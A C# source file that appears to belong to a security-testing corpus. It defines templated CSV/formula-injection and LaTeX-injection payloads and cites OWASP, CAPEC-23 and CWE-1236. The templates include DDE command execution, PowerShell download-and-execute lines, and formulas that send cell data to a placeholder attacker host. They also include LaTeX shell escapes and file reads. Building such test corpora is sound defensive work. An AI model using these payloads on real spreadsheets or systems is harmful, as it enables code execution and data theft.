namespace Weir.Http.Corpus.Attacks.Other;

/// <summary>Text that a spreadsheet or a type setter runs.</summary>
/// <remarks>OWASP "CSV Injection", CAPEC-23, CWE-1236.</remarks>
internal static class Formulas
{
    public const string Text = """"
        §formula
        5× «eq»cmd|'«/C¦/c¦ /C» «wincmd»'!«A0¦A1¦'A1'¦_xlbgnm.A1»
        3× «eq»HYPERLINK("«evilurl»«¦?x="&A1&"»","«word»«¦ «word»»")
        2× «eq»«IMPORTXML¦IMPORTDATA¦IMPORTFEED¦IMPORTHTML¦WEBSERVICE¦IMAGE¦IMPORTRANGE»(«CONCAT("http://«evilhost»/?«letter»=",«A1:B9¦CONCATENATE(A2:E2)»)¦"«evilurl»"¦CONCAT("http://«evilhost»/«rand».txt?v=", CONCATENATE(A1:A99)),"//«letter»"»)
        2× «eq»«SUM(1+1)*¦1+1+¦10+20+¦2+5+¦AAAA+BBBB-CCCC&"«word»"/12345&¦ ¦A1+»cmd|'/«c¦C» «wincmd»'!A0
        «eq»rundll32|'URL.dll,OpenURL calc.exe'!A
        «eq»«MSEXCEL|'\..\..\..\Windows\System32\cmd.exe /c «wincmd»'!''¦DDE("cmd","/C «wincmd»","«rand»")¦DDE("server";"file";"item";"mode")¦'file://«unixfile»'#$«word».A1¦EXEC("«wincmd»")¦CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"«evilurl»","C:\Users\Public\«rand».exe",0,0)¦FORMULA.FILL("«rand»",A1)»
        "«eq»cmd|'/c «wincmd»'!A1"
        «word»,«eq»cmd|'/C «wincmd»'!A0
        "«word»";«eq»HYPERLINK("«evilurl»")
        DDEAUTO «c:\\windows\\system32\\»cmd.exe "/«k¦c» «wincmd»"
        %0A«eq»cmd|'/C «wincmd»'!A0
        ;«eq»cmd|'/C «wincmd»'!A0
        §eq
        5× =
        2× @
        2× +
        2× -
        «@SUM(1+1)*¦=-¦=+¦␉=¦%0D=¦ =¦＝»
        §wincmd
        4× «calc¦calc.exe¦notepad¦ping «ip»¦nslookup «oasthost»¦whoami»
        powershell IEX(«wget¦New-Object Net.WebClient».«DownloadString('«evilurl»')¦»)
        powershell.exe -«w hidden ¦NoP »$e=(New-Object System.Net.WebClient).DownloadString('«evilurl»');powershell -e $e
        «shellcmd»
        §latex
        3× \«input¦include¦lstinputlisting¦verbatiminput¦includegraphics¦inputminted¦InputIfFileExists»{«unixfile»}
        3× \immediate\write18{«shellcmd»«¦ > «rand».txt¦ | base64 > «rand».tex»}«¦\input{«rand».txt}»
        \input{|"«shellcmd»"}
        \input|«shellcmd»
        \newread\file\openin\file=«unixfile»\read\file to\line\text{\line}\closein\file
        \newwrite\outfile\openout\outfile=«rand».tex\write\outfile{«rand»}\closeout\outfile
        \usepackage{verbatim}\verbatiminput{«unixfile»}
        \catcode`\$=12\catcode`\#=12\input{«unixfile»}
        \url{javascript:alert(1)}
        \href{javascript:alert(1)}{«word»}
        \def\x{\x\x}\x
        \loop\iftrue\repeat
        \unicode{<img src=1 onerror="alert(1)">}
        """";
}
